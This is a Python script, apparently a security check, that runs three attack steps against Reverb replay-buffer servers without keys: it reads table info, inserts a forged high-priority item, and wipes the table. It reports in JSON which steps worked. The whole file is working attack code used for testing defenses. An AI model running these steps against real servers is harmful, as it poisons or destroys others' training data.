"""An attacker without the program's keys, against a reverb node: ``python reverb_attack.py
TABLE ADDRESS...`` tries, on each address (``host:port`` or ``unix:PATH``), the three
steps that worked against an open Reverb port: read the table (``server_info``), insert
a forged item (value 1e6, priority 1e9) and wipe the table (``reset``). Prints one JSON
object: address -> step -> "ok" (the step worked) or what stopped it."""

from __future__ import annotations

import json
import os
import sys
import threading
from collections.abc import Callable
from typing import Any

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

STEP_S = 6.0  # a step that has not answered by then did not work
FORGED = 1e6


def _within(step: Callable[[], Any], seconds: float = STEP_S) -> str:
    """Run ``step`` in a thread: "ok", the error it raised, or "no answer"."""
    out: list[str] = []

    def go() -> None:
        try:
            step()
            out.append("ok")
        except BaseException as exc:  # every way of failing is a failed attack
            out.append(f"{type(exc).__name__}: {str(exc)[:160]}")

    thread = threading.Thread(target=go, daemon=True)
    thread.start()
    thread.join(seconds)
    return out[0] if out else "no answer"


def attack(address: str, table: str) -> dict[str, str]:
    """The three steps against one address."""
    import numpy as np
    import reverb

    result: dict[str, str] = {}
    try:
        client = reverb.Client(address)
    except Exception as exc:
        return {step: f"no client: {exc}" for step in ("read", "insert", "reset")}
    result["read"] = _within(lambda: client.server_info(timeout=3))
    result["insert"] = _within(lambda: client.insert([np.float64(FORGED)], priorities={table: 1e9}))
    result["reset"] = _within(lambda: client.reset(table))
    return result


def main(argv: list[str]) -> None:
    table, addresses = argv[0], argv[1:]
    results: dict[str, dict[str, str]] = {}
    threads = [
        threading.Thread(target=lambda a=a: results.__setitem__(a, attack(a, table)), daemon=True)
        for a in addresses
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(4 * STEP_S)
    for a in addresses:
        results.setdefault(a, {s: "no answer" for s in ("read", "insert", "reset")})
    print(json.dumps(results), flush=True)
    os._exit(0)  # threads still blocked inside gRPC must not hold the exit


if __name__ == "__main__":
    main(sys.argv[1:])
